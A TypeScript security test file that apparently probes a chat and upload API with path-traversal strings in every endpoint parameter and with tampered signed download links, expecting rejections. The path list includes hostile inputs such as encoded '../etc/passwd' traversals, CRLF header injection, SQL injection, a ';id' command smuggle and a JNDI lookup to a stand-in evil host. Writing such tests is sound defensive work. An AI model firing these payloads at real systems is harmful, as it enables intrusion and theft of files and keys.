// Ids in paths and in links that try to reach what is not theirs: other folders, other files, other times.
// Not here: the ids of other members (memberCases.ts), uploads (uploadCases.ts).
import { as, type HttpAttack } from './attack.ts';
import { type Endpoint, filled } from './endpoints.ts';
import type { Said } from './rawHttp.ts';
import type { World } from './world.ts';

const wayOut = '..%2f..%2f..%2f..%2fetc%2fpasswd';

/** As they stand in the request line. */
const paths: readonly string[] = [
  wayOut,
  '..%2F..%2Fsigning.key',
  '%2e%2e%2f%2e%2e%2fsigning.key',
  '%2e%2e/%2e%2e/signing.key',
  '../../signing.key',
  '..;/..;/signing.key',
  '....//....//signing.key',
  '..%5c..%5csigning.key',
  '%5c%5cevil.example%5cshare',
  '%252e%252e%252fsigning.key',
  '%c0%ae%c0%ae%c0%afsigning.key',
  '..%c0%afsigning.key',
  '%2fetc%2fpasswd',
  'file:%2f%2f%2fetc%2fpasswd',
  'signing.key%00.csv',
  '%00',
  '%0d%0aX-Injected:%20yes',
  '%ff%fe',
  '%80',
  '%',
  '%z1',
  '%u002e%u002e%u2215',
  '%ef%bc%8e%ef%bc%8e%ef%bc%8fsigning.key',
  '%f0%9f%92%a9',
  '%e2%80%ae',
  'a'.repeat(10_000),
  '%41'.repeat(3_000),
  "'%20OR%20'1'='1",
  '%22;%20DROP%20TABLE%20chats;--',
  '%25',
  '_',
  '*',
  '%3f',
  '%23',
  ';id',
  '.',
  '%20',
  'null',
  'undefined',
  'true',
  '-1',
  '__proto__',
  'constructor',
  '$%7bjndi:ldap:%2f%2fevil%7d',
];

export function traversalAttacks({ admin, apiKey }: World, endpoints: readonly Endpoint[]): HttpAttack[] {
  return endpoints.flatMap((endpoint) =>
    endpoint.params.flatMap((param) =>
      paths.map((way) => ({
        name: `${endpoint.method} ${endpoint.path} with ${param} = ${way.slice(0, 40)}`,
        send: {
          method: endpoint.method,
          target: filled(endpoint, { chat_id: admin.chat, [param]: way }),
          headers: [as(admin.token), ['X-API-Key', apiKey]] as [string, string][],
          ...(endpoint.body ? { body: '{"content":"x","title":"x","feedback":"positive","member_id":"none"}' } : {}),
        },
        // A public endpoint asks for a link or a token; a path that is another endpoint's is answered as that one.
        // In the assistant API a conversation that nobody has is deleted and cut short without a word.
        status: endpoint.path.startsWith('/api/') ? [200, 400, 404, 405] : [400, 404, 405],
        also: ({ body, headers }: { body: string; headers: Map<string, string> }) =>
          headers.has('x-injected') || body.includes('root:') ? 'it got out' : undefined,
      })),
    ),
  );
}

export function linkAttacks(world: World): HttpAttack[] {
  const { ana, eve } = world;
  const of = (link: string) => {
    const url = new URL(link, 'http://x');
    const [expires = '', signature = ''] = ['expires', 'signature'].map((name) => url.searchParams.get(name) ?? '');
    return { path: url.pathname, expires, signature };
  };
  const [good, other] = [of(ana.link), of(eve.link)];
  const to = (path: string, query: string): Said => ({ target: `${path}?${query}` });
  const query = (expires: string, signature: string) => `expires=${expires}&signature=${signature}`;
  const later = String(Number(good.expires) + 86_400);
  const flipped = `${good.signature.slice(0, -1)}${good.signature.endsWith('A') ? 'B' : 'A'}`;
  const refused: [string, Said][] = [
    ['no signature', to(good.path, `expires=${good.expires}`)],
    ['an empty signature', to(good.path, query(good.expires, ''))],
    ['no expiry', to(good.path, `signature=${good.signature}`)],
    ['no query', { target: good.path }],
    ['a changed id', to(other.path, query(good.expires, good.signature))],
    ["another upload's signature", to(good.path, query(other.expires, other.signature))],
    ['a changed expiry', to(good.path, query(later, good.signature))],
    ['a huge expiry', to(good.path, query('999999999999', good.signature))],
    ['an expiry beyond numbers', to(good.path, query('9'.repeat(400), good.signature))],
    ['an endless expiry', to(good.path, query('Infinity', good.signature))],
    ['an expiry with an exponent', to(good.path, query('1e12', good.signature))],
    ['an expiry in hex', to(good.path, query('0xffffffff', good.signature))],
    ['a negative expiry', to(good.path, query('-1', good.signature))],
    ['an expiry with a sign', to(good.path, query(`%2b${good.expires}`, good.signature))],
    ['an expiry with a zero in front', to(good.path, query(`0${good.expires}`, good.signature))],
    ['an expiry with a space', to(good.path, query(`%20${good.expires}`, good.signature))],
    ['an expiry in other digits', to(good.path, query('%d9%a1%d9%a2%d9%a3', good.signature))],
    ['an old expiry', to(good.path, query('1', good.signature))],
    ['another signature of the same length', to(good.path, query(good.expires, flipped))],
    ['a signature in upper case', to(good.path, query(good.expires, good.signature.toUpperCase()))],
    ['half a signature', to(good.path, query(good.expires, good.signature.slice(0, 20)))],
    ['more than a signature', to(good.path, query(good.expires, `${good.signature}A`))],
    ['a padded signature', to(good.path, query(good.expires, `${good.signature}=`))],
    ['a signature of characters of two bytes', to(good.path, query(good.expires, '%c3%a9'.repeat(43)))],
    ['a signature of 5,000 characters', to(good.path, query(good.expires, 'A'.repeat(5_000)))],
    ['a signature with NUL', to(good.path, query(good.expires, `${good.signature}%00`))],
    ['two expiries', to(good.path, `expires=${later}&${query(good.expires, good.signature)}`)],
    ['lists as in other frameworks', to(good.path, `expires[]=${later}&signature[]=${good.signature}`)],
    ['an unknown id with a signature', to('/v1/uploads/none/content', query(good.expires, good.signature))],
  ];
  const signed = query(good.expires, good.signature);
  return [
    ...refused.map(([name, send]) => ({ name: `a link with ${name}`, send, status: 401, code: 'UNAUTHORIZED' })),
    // Her own file she may read without any link.
    ...refused
      .filter(([, { target }]) => target.startsWith(good.path))
      .map(([name, send]) => ({
        name: `a link with ${name}, and the token of a third`,
        send: { ...send, headers: [as(eve.token)] },
        status: 404,
      })),
    {
      name: 'a bad link for HEAD',
      send: { ...to(good.path, query(later, good.signature)), method: 'HEAD' },
      status: 401,
    },
    { name: 'a link for DELETE', send: { ...to(good.path, signed), method: 'DELETE' }, status: [401, 405] },
    { name: 'a link as a token for the chat', send: to(`/v1/chats/${ana.chat}`, signed), status: 401 },
    {
      name: 'a link of another page',
      send: { ...to(good.path, signed), headers: [['Origin', 'https://evil.example']] },
      status: 403,
    },
    {
      name: 'a good link is no page but a download that nothing may guess at',
      send: { target: ana.link },
      status: 200,
      also: ({ headers }) => {
        const names = ['content-type', 'content-disposition', 'x-content-type-options'];
        const [type, how, guess] = names.map((name) => headers.get(name));
        const isSafe = type === 'application/octet-stream' && how?.startsWith('attachment;') && guess === 'nosniff';
        return isSafe ? undefined : `it could be shown: ${type} ${how} ${guess}`;
      },
    },
  ];
}
